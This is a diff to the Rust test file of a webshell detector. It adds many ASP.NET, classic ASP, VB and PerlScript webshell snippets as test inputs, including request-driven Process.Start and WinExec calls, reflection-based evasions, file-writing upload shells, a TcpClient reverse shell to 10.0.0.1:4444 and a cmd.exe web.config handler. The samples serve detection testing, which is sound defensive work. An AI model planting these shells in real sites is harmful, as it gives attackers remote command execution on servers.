@@ -1,6 +1,6 @@
 //! Each way of hiding or reaching something, once with a visitor behind it and once without.
 
-use assize_webshell::{Channel, Effect, Found, Grade, Told, Way, look};
+use assize_webshell::{Channel, Effect, Found, Grade, Oddity, Told, Way, look};
 
 fn grade(page: &str, name: &str) -> Grade {
     look(page.as_bytes(), name).grade
@@ -100,6 +100,116 @@ fn ways_of_csharp() {
     ] {
         certain(&format!("<%@ Page Language=\"C#\"%><%{code}%>"), "x.aspx");
     }
+}
+
+#[test]
+fn ways_of_csharp_beside_the_plain_ones() {
+    for code in [
+        "new System.Threading.Thread(() => { Process.Start(\"cmd\", Request[\"c\"]); }).Start();",
+        "if (Request[\"c\"] is string s && s.Length > 0) Process.Start(s);",
+        "switch ((object)Request[\"x\"]) { case string s when s.Length > 2: Process.Start(\"cmd\", s); break; }",
+        "var f = (Func<string, Process>)Delegate.CreateDelegate(typeof(Func<string, Process>), typeof(Process), \"Start\"); f(Request[\"c\"]);",
+        "Delegate d = new Func<string, string, Process>(Process.Start); d.DynamicInvoke(\"cmd\", Request[\"c\"]);",
+        "var m = typeof(Process).GetMethods()[5]; m.Invoke(null, new object[] { \"cmd\", Request[\"c\"] });",
+        "var m = typeof(Process).GetMethod(\"Start\"); Expression.Lambda<Action>(Expression.Call(m, Expression.Constant(Request[\"c\"]))).Compile()();",
+        "System.Threading.Thread.GetDomain().Load(Convert.FromBase64String(Request[\"a\"]));",
+        "Process.Start(\"cmd\", Request.PathInfo);",
+        "Process.Start(\"cmd\", Request.Form.Keys[0]);",
+        "var i = new ProcessStartInfo(\"cmd\"); i.ArgumentList.Add(Request[\"c\"]); Process.Start(i);",
+        "new System.Management.Automation.RunspaceInvoke().Invoke(Request[\"c\"]);",
+        "ActivityXamlServices.Load(new StringReader(Request[\"x\"]));",
+        "dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID(\"MMC20.Application\")); t.Document.ActiveView.ExecuteShellCommand(\"cmd\", null, Request[\"c\"], \"7\");",
+    ] {
+        certain(&format!("<%@ Page Language=\"C#\"%><%{code}%>"), "x.aspx");
+    }
+    for members in [
+        "[DllImport(\"kernel32.dll\", EntryPoint=\"WinExec\")] static extern int F(string a, int b); void Page_Load(object s, EventArgs e) { F(Request[\"c\"], 0); }",
+        "[DllImport(\"msvcrt.dll\")] static extern int system(string a); void Page_Load(object s, EventArgs e) { system(Request[\"c\"]); }",
+        "IEnumerable<string> G() { yield return \"whoami\"; yield return Request[\"c\"]; } void Page_Load(object s, EventArgs e) { foreach (var x in G()) Process.Start(x); }",
+        "class W { HttpRequest r; public W(HttpRequest x) { r = x; } public string this[string k] { get { return r[k]; } } } void Page_Load(object s, EventArgs e) { Process.Start(new W(Request)[\"c\"]); }",
+        "void Page_Load(object s, EventArgs e) { Request[\"x\"].Go(); } static class X { public static void Go(this string q) { Process.Start(\"cmd\", q); } }",
+        "class A { public virtual void R(string q) {} } class B : A { public override void R(string q) { Process.Start(\"cmd\", q); } } void Page_Load(object s, EventArgs e) { A a = new B(); a.R(Request[\"x\"]); }",
+        "event Action<string> Ev; void Page_Load(object s, EventArgs e) { Ev += x => Process.Start(\"cmd\", x); Ev(Request[\"x\"]); }",
+    ] {
+        certain(&format!("<%@ Page Language=\"C#\"%><script runat=\"server\">{members}</script>"), "x.aspx");
+    }
+    certain(
+        "<%@ Page Language=\"C#\"%><script runat=\"server\">void B(object s, EventArgs e) { var t = (TextBox)FindControl(\"x\"); Process.Start(\"cmd\", t.Text); }</script><asp:TextBox id=\"x\" runat=\"server\"/>",
+        "x.aspx",
+    );
+    certain("<%@ Page Language=\"JScript\"%><%var z=eval.bind(null);z(Request.Item[\"x\"]);%>", "x.aspx");
+}
+
+#[test]
+fn ways_of_basic_beside_the_plain_ones() {
+    for page in [
+        "<%\nDim a(2)\na(0)=\"ev\"\na(1)=\"al \"\na(2)=\"request(\"\"z\"\")\"\nExecute Join(a,\"\")\n%>",
+        "<%Set r=New RegExp:r.Global=True:r.Pattern=\"#\":execute r.Replace(\"e#v#a#l r#equest(\"\"a\"\")\",\"\")%>",
+        "<%Set x=GetObject(\"script:\"&request(\"u\"))%>",
+        "<%Execute Request.ClientCertificate(\"Subject\")%>",
+    ] {
+        certain(page, "x.asp");
+    }
+    for members in [
+        "Sub Page_Load()\nDim p As New Process()\nWith p.StartInfo\n.FileName = \"cmd.exe\"\n.Arguments = \"/c \" & Request(\"c\")\nEnd With\np.Start()\nEnd Sub",
+        "Sub Page_Load()\nProcess.Start(\"cmd\", $\"/c {Request(\"c\")}\")\nEnd Sub",
+        "ReadOnly Property Q() As String\nGet\nReturn Request(\"c\")\nEnd Get\nEnd Property\nSub Page_Load()\nProcess.Start(\"cmd\", Q)\nEnd Sub",
+        "Private Declare Function F Lib \"kernel32\" Alias \"WinExec\" (ByVal a As String, ByVal b As Integer) As Integer\nSub Page_Load()\nF(Request(\"c\"), 0)\nEnd Sub",
+        "<DllImport(\"kernel32\", EntryPoint:=\"WinExec\")> Private Shared Function F(ByVal a As String, ByVal b As Integer) As Integer\nEnd Function\nSub Page_Load()\nF(Request(\"c\"), 0)\nEnd Sub",
+    ] {
+        certain(&format!("<%@ Page Language=\"VB\"%><script runat=\"server\">\n{members}\n</script>"), "x.aspx");
+    }
+}
+
+#[test]
+fn files_that_a_visitor_fills() {
+    let sharp = |code: &str| format!("<%@ Page Language=\"C#\"%><%{code}%>");
+    for code in [
+        "File.WriteAllText(Server.MapPath(\"e.aspx\"), Request[\"d\"]);",
+        "Request.SaveAs(Server.MapPath(\"x.aspx\"), false);",
+        "new WebClient().DownloadFile(Request[\"u\"], Server.MapPath(\"a.aspx\"));",
+        "using (var f = File.OpenWrite(Request.Headers[\"X-F\"])) { Request.InputStream.CopyTo(f); }",
+        "File.WriteAllText(\"c:\\\\t.cs\", Request[\"s\"]); new CSharpCodeProvider().CompileAssemblyFromFile(new CompilerParameters(), \"c:\\\\t.cs\");",
+        "var t = new TcpClient(\"10.0.0.1\", 4444); var p = Process.Start(\"cmd\"); var r = new StreamReader(t.GetStream()); p.StandardInput.WriteLine(r.ReadLine());",
+        "new JavaScriptSerializer(new SimpleTypeResolver()).DeserializeObject(Request[\"j\"]);",
+    ] {
+        let page = sharp(code);
+        assert!(grade(&page, "x.aspx") >= Grade::Likely, "{page}: {:?}", look(page.as_bytes(), "x.aspx"));
+    }
+    // What is written names its source, and is a key like any other.
+    let found = look(sharp("File.WriteAllText(Server.MapPath(\"e.aspx\"), Request.Form[\"d\"]);").as_bytes(), "x.aspx");
+    assert_eq!(
+        (found.reasons[0].notation(), found.keys),
+        ("form \"d\" -> write: File.WriteAllText (1:31)".into(), vec!["d".to_owned()])
+    );
+    // A setting that an installer fills in is no shell for sure; a log of its own is none at all.
+    let setting = sharp("File.WriteAllText(Server.MapPath(\"config.aspx\"), \"<x>\" + Request[\"title\"] + \"</x>\");");
+    assert_eq!(grade(&setting, "x.aspx"), Grade::Suspicious);
+    let log = sharp("File.WriteAllText(Server.MapPath(\"visits.txt\"), Request[\"title\"]);");
+    assert!(grade(&log, "x.aspx") <= Grade::Context);
+    assert_eq!(grade(&sharp("new JavaScriptSerializer().DeserializeObject(Request[\"j\"]);"), "x.aspx"), Grade::None);
+    let kept = sharp(
+        "Request.Files[0].SaveAs(\"C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\\" + Request.Files[0].FileName);",
+    );
+    assert_eq!(grade(&kept, "x.aspx"), Grade::Suspicious);
+}
+
+#[test]
+fn what_is_not_followed_is_said() {
+    for page in [
+        "<%@ Language=\"PerlScript\"%><% system($Request->QueryString(\"c\")->Item); %>",
+        "<script language=\"PerlScript\" runat=\"server\">exec($Request->Form(\"c\")->Item);</script>",
+    ] {
+        let found = look(page.as_bytes(), "x.asp");
+        assert_eq!(found.grade, Grade::Suspicious, "{found:?}");
+        assert_eq!(found.reasons[0].told, Told::Odd(Oddity::Language("PerlScript".into())));
+    }
+    let shell = "<handlers><add name='a' path='*.foo' verb='*' modules='FastCgiModule' scriptProcessor='c:\\windows\\system32\\cmd.exe|/c whoami'/></handlers>";
+    assert_eq!(grade(shell, "web.config"), Grade::Likely);
+    let php = "<handlers><add name='a' path='*.php' verb='*' modules='FastCgiModule' scriptProcessor='c:\\php\\php-cgi.exe'/></handlers>";
+    assert_eq!(grade(php, "web.config"), Grade::None);
+    let included = "<%Set f=Server.CreateObject(\"Scripting.FileSystemObject\"):execute f.OpenTextFile(Server.MapPath(\"a.jpg\")).ReadAll%>";
+    assert_eq!(grade(included, "x.asp"), Grade::Suspicious);
 }
 
 #[test]
